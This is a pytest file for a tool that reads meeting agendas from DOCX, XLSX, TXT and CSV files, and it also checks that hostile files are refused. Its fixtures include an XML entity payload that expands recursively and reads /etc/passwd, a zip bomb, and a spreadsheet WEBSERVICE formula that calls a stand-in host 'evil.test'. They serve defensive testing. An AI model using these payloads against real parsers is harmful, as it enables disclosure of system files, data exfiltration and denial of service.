"""Agendas in files: DOCX and XLSX in their usual forms, and what strangers send."""

from __future__ import annotations

import zipfile
from contextlib import suppress
from datetime import date, datetime, time
from io import BytesIO

import pytest
from docx import Document
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from curriculum.errors import FileProblem
from curriculum.exchange.reading import read_agenda
from curriculum.exchange.table_worker import rows_of
from curriculum.exchange.tables import MOST_BYTES, rows_of_file
from tests.exchange.agendas import a_document, a_workbook, saved, told

ROWS = [
    ["Time", "Session", "Facilitator", "Room"],
    ["09:00-09:30", "Opening ceremony", "", "Hall"],
    ["09:30-11:00", "Rights", "Malee and Budi", "Hall"],
    ["11:00-11:15", "Tea break", "", ""],
]
DAY = ["09:00-09:30 Opening ceremony (ceremony)", "09:30-11:00 Rights", "11:00-11:15 Tea break (break)"]


def read(name: str, content: bytes) -> list[list[str]]:
    return told(read_agenda(rows_of_file(name, content)))


def test_a_document_of_paragraphs() -> None:
    lines = (
        "Day 1: Opening",
        "09:00-09:30\tOpening ceremony",
        "09:30-11:00\tRights",
        "11:00-11:15\tTea break",
    )
    assert read("a.docx", a_document(*lines)) == [DAY]


def test_a_document_with_a_table_below_each_heading() -> None:
    agenda = read_agenda(rows_of_file("a.docx", a_document("Last year", "Day 1", ROWS, "Day 2", ROWS[:3])))
    assert agenda.title == "Last year"
    assert told(agenda) == [DAY, DAY[:2]]
    assert agenda.people == ("Malee", "Budi")
    assert agenda.rooms == ("Hall",)
    assert not agenda.not_understood


def test_a_document_with_days_side_by_side() -> None:
    table = [
        ["", "Monday 3 March 2025", "Tuesday 4 March 2025"],
        ["09:00-10:30", "Rights", "Safety"],
        ["10:30-12:00", "Cases", ""],
    ]
    agenda = read_agenda(rows_of_file("a.docx", a_document(table)))
    assert [day.date for day in agenda.days] == [date(2025, 3, 3), date(2025, 3, 4)]
    assert told(agenda) == [["09:00-10:30 Rights", "10:30-12:00 Cases"], ["09:00-10:30 Safety"]]


def test_a_cell_that_reaches_over_two_days_is_in_both() -> None:
    document = Document()
    table = document.add_table(2, 3)
    for place, text in enumerate(("Time", "Day 1", "Day 2")):
        table.cell(0, place).text = text
    table.cell(1, 0).text = "12:00-13:00"
    table.cell(1, 1).merge(table.cell(1, 2)).text = "Lunch"
    assert read("a.docx", saved(document)) == [["12:00-13:00 Lunch (pause)"]] * 2


def test_a_workbook_with_a_sheet_for_each_day() -> None:
    assert read("a.xlsx", a_workbook(Day_1=ROWS, Day_2=ROWS[:3])) == [DAY, DAY[:2]]


def test_a_workbook_with_all_days_in_one_sheet() -> None:
    rows: list[list[object]] = [
        ["Date", "Start", "End", "Topic"],
        [datetime(2025, 3, 3), time(9), time(10, 30), "Rights"],
        [None, time(10, 30), time(10, 45), "Tea break"],
        [datetime(2025, 3, 4), time(9), time(12), "Field visit"],
    ]
    agenda = read_agenda(rows_of_file("a.xlsx", a_workbook(Agenda=rows)))
    assert [day.date for day in agenda.days] == [date(2025, 3, 3), date(2025, 3, 4)]
    assert told(agenda) == [
        ["09:00-10:30 Rights", "10:30-10:45 Tea break (break)"],
        ["09:00-12:00 Field visit (visit)"],
    ]


def test_text_and_csv_files() -> None:
    assert read("a.txt", "Day 1\n09:00-10:30 Rights".encode("utf-16")) == [["09:00-10:30 Rights"]]
    csv = '\ufeffTime;Session;Room\n09:00-10:30;"Rights; and duties";Hall\n'.encode()
    assert read("a.csv", csv) == [["09:00-10:30 Rights; and duties"]]


def zipped(**parts: bytes) -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name.replace("__", "/") + ".xml", content)
    return file.getvalue()


def with_part(content: bytes, name: str, change: bytes) -> bytes:
    """The same file, one part of which is another."""
    file = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            new.writestr(part, change if part == name else old.read(part))
    return file.getvalue()


ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">'
    b'<!ENTITY f SYSTEM "file:///etc/passwd">]><w>&b;&f;</w>'
)
HOSTILE = {
    "an old document": (b"\xd0\xcf\x11\xe0" + b"\x00" * 600, "old kind"),
    "a PDF": (b"%PDF-1.7\n", "PDF"),
    "a picture": (b"\x89PNG\r\n\x1a\n\xff\xfe", "neither DOCX nor XLSX"),
    "something packed": (zipped(notes=b"<a/>"), "neither DOCX nor XLSX"),
    "half a document": (a_document("Day 1")[:900], "damaged"),
    "a bomb": (zipped(word__document=b"<a>" + b" " * 25_000_000 + b"</a>"), "unpacks"),
    "entities": (with_part(a_document("Day 1"), "word/document.xml", ENTITIES), "definition"),
    "entities in a workbook": (
        with_part(a_workbook(A=ROWS), "xl/worksheets/sheet1.xml", ENTITIES),
        "definition",
    ),
    "broken XML": (with_part(a_document("Day 1"), "word/document.xml", b"<w:p"), "damaged"),
    "too many rows": (a_workbook(A=[["09:00", "x"]] * 3100), "more than 3000 rows"),
    "a very long cell": (a_workbook(A=[["09:00", "x" * 9000]]), "cell"),
    "too large": (b"PK\x03\x04" + b"x" * MOST_BYTES, "larger than 10 MB"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_no_agenda_is_refused_in_one_sentence(name: str) -> None:
    content, reason = HOSTILE[name]
    with pytest.raises(FileProblem) as refused:
        rows_of_file("agenda.docx", content)
    said = str(refused.value)
    assert said.startswith("agenda.docx: ")
    assert reason in said
    assert "passwd" not in said


def test_a_formula_is_never_run_and_its_text_is_no_line() -> None:
    content = a_workbook(A=[["09:00-10:00", '=WEBSERVICE("http://evil.test")'], ["10:00-11:00", "Rights"]])
    assert "evil" not in str(rows_of_file("a.xlsx", content))


DOCUMENT, WORKBOOK = a_document("Day 1", ROWS), a_workbook(Day_1=ROWS)
ANY_BYTES = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])


@ANY_BYTES
@given(
    st.sampled_from((DOCUMENT, WORKBOOK)),
    st.lists(st.tuples(st.integers(0, 40_000), st.integers(0, 255)), max_size=8),
)
def test_a_file_with_any_bytes_changed_is_read_or_refused(
    content: bytes, changes: list[tuple[int, int]]
) -> None:
    """What the worker does not name it calls damaged, so only memory and time could hurt whoever asked it."""
    bytes_of = bytearray(content)
    for at, value in changes:
        bytes_of[at % len(bytes_of)] = value
    with suppress(Exception):
        # To whatever else a library raises the worker answers “damaged”
        try:
            read_agenda(rows_of(bytes(bytes_of)))
        except (MemoryError, RecursionError) as error:
            pytest.fail(f"{type(error).__name__}")
